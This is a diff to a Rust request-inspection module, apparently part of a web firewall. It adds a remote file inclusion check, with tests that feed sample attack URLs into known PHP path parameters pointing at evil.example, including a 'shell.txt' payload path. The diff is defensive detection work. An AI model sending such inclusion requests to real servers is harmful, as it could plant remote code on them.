@@ -382,6 +382,16 @@ fn inspect_pairs(
         }
         filter.inspect(policy, location, &name, &name, verdict);
         filter.inspect(policy, location, &name, &value, verdict);
+        if names_a_local_path(&name) && is_remote_url(&value) {
+            add_structural_finding(
+                policy,
+                verdict,
+                ("rfi-path-parameter", Family::Rfi),
+                location,
+                &name,
+                &value,
+            );
+        }
         if header_injection::has_line_break(&name) {
             add_structural_finding(
                 policy,
@@ -393,6 +403,47 @@ fn inspect_pairs(
             );
         }
     }
+}
+
+/// A parameter named as a directory or a file path on the server (`_CONF[path]`,
+/// `mosConfig_absolute_path`, `GALLERY_BASEDIR`, `path[docroot]`, `include_path`): where a
+/// PHP app includes its code from, which a remote URL turns into remote file inclusion, as
+/// CRS's rule 931110 reads these names. A name that redirects or calls back takes URLs.
+fn names_a_local_path(name: &str) -> bool {
+    let name = name.to_ascii_lowercase();
+    if ["redirect", "return", "callback"]
+        .iter()
+        .any(|word| name.contains(word))
+    {
+        return false;
+    }
+    name.split(|c: char| !c.is_ascii_alphanumeric())
+        .rfind(|word| !word.is_empty())
+        .is_some_and(|last| {
+            matches!(
+                last,
+                "path"
+                    | "dir"
+                    | "root"
+                    | "basedir"
+                    | "docroot"
+                    | "rootdir"
+                    | "include"
+                    | "includedir"
+            )
+        })
+}
+
+/// A URL on another server, as PHP's `include` fetches it.
+fn is_remote_url(value: &str) -> bool {
+    let value = value.trim_start().as_bytes();
+    ["http://", "https://", "ftp://", "ftps://"]
+        .iter()
+        .any(|scheme| {
+            value
+                .get(..scheme.len())
+                .is_some_and(|start| start.eq_ignore_ascii_case(scheme.as_bytes()))
+        })
 }
 
 /// The keys inside `user[$ne][x]`-style names, as PHP, Express (`qs`) and Rails read them.
@@ -557,6 +608,36 @@ mod tests {
         assert!(v.findings.is_empty(), "{v:?}");
         let v = head("/login?user[$ne]=x", &[]);
         assert!(v.findings.iter().any(|f| f.rule == "nosql-operator-key"));
+    }
+
+    #[test]
+    fn a_remote_url_in_a_parameter_named_as_a_server_path_is_file_inclusion() {
+        for uri in [
+            "/plugins/spamx/BaseAdmin.class.php?_CONF[path]=https://foo.bar",
+            "/show_image.php?mosConfig_absolute_path=https://foo.bar",
+            "/index.php?GALLERY_BASEDIR=ftp://evil.example/",
+            "/x.php?path[docroot]=HTTP://evil.example/shell.txt",
+            "/x.php?include_path=http%3A%2F%2Fevil.example%2F",
+        ] {
+            let v = head(uri, &[]);
+            assert!(
+                v.findings.iter().any(|f| f.rule == "rfi-path-parameter"),
+                "{uri}: {v:?}"
+            );
+        }
+        for uri in [
+            "/login?return_path=https://app.example/home",
+            "/oauth?redirect_path=https://app.example/cb",
+            "/upload?path=/srv/files/a.txt",
+            "/share?url=https://example.com/",
+            "/files?root=docs",
+        ] {
+            let v = head(uri, &[]);
+            assert!(
+                !v.findings.iter().any(|f| f.rule == "rfi-path-parameter"),
+                "{uri}: {v:?}"
+            );
+        }
     }
 
     #[test]
